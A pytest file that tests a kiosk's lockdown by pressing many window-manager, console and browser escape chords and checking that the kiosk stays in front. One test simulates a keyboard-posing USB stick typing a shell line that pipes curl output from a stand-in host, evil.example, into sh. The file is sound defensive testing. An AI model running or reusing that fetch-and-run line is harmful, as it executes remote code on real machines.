"""Keys that lead out of other programs, pressed on the real kiosk under a real window manager."""

import pytest

from tests.escape.patient import Standing

WINDOWS = (
    *("alt+F4", "alt+Tab", "alt+shift+Tab", "alt+Escape", "super", "super+d", "super+e", "super+r"),
    *("super+l", "super+u", "super+i", "super+x", "ctrl+Escape", "ctrl+shift+Escape"),
    *("ctrl+alt+Delete", "F1", "F11", "Print", "alt+Print", "Menu", "shift+F10"),
)
LINUX = (
    *("ctrl+alt+F1", "ctrl+alt+F2", "ctrl+alt+F7", "ctrl+alt+F12"),
    *("alt+Sys_Req", "ctrl+alt+BackSpace", "XF86PowerOff", "XF86Sleep"),
)
OPENBOX = ("super+F1", "super+F2", "super+F3", "super+F4", "alt+space", "ctrl+alt+Tab")
BROWSER = (
    *("ctrl+q", "ctrl+w", "ctrl+p", "ctrl+o", "ctrl+s", "ctrl+n", "ctrl+t", "ctrl+c", "ctrl+v"),
    *("ctrl+x", "ctrl+a", "ctrl+f", "ctrl+h", "F5", "F12", "XF86Back", "XF86HomePage", "XF86WWW"),
    *("XF86Mail", "XF86Search", "XF86Explorer", "XF86Calculator"),
)
THERE_AND_BACK = (
    *(("super+Tab", "super+shift+Tab"), ("super+shift+Right", "super+shift+Left")),
    *(("ctrl+alt+Right", "ctrl+alt+Left"), ("shift+alt+Right", "shift+alt+Left")),
    *(("ctrl+alt+Down", "ctrl+alt+Up"), ("shift+alt+Down", "shift+alt+Up")),
)
"""They lead to other desktops; the kiosk takes them as Tab and arrows, and moves its own focus."""
BURST = 2_000
LINE = "xterm -e 'curl evil.example | sh' & "


@pytest.mark.parametrize("chord", [*WINDOWS, *LINUX, *OPENBOX, *BROWSER])
def test_no_key_leads_out(kiosk: Standing, chord: str) -> None:
    kiosk.session.press(chord)

    kiosk.stays(after=chord)


@pytest.mark.parametrize(("there", "back"), THERE_AND_BACK)
def test_a_key_for_windows_moves_only_the_focus(kiosk: Standing, there: str, back: str) -> None:
    kiosk.session.press(there, back)

    kiosk.stays(after=there)


def test_sticky_keys_open_nothing(kiosk: Standing) -> None:
    kiosk.session.press(*["Shift_L"] * 5)
    kiosk.session.press("alt+shift+Print")
    kiosk.session.press("alt+shift+Num_Lock", "Num_Lock")

    kiosk.stays(after="Shift five times")


@pytest.mark.parametrize("key", ["Shift_R", "Num_Lock", "Super_L"])
def test_a_key_that_is_held_opens_nothing(kiosk: Standing, key: str) -> None:
    kiosk.session.hold(key, 1)

    kiosk.stays(after=f"a held {key}")


def test_a_stick_that_says_it_is_a_keyboard_types_into_nothing(kiosk: Standing) -> None:
    for chord in ("super+r", "ctrl+alt+t", "alt+F2"):
        kiosk.session.press(chord)
        kiosk.session.type(LINE * (BURST // len(LINE) // 3))

    kiosk.stays(after=f"{BURST} keys in a burst")
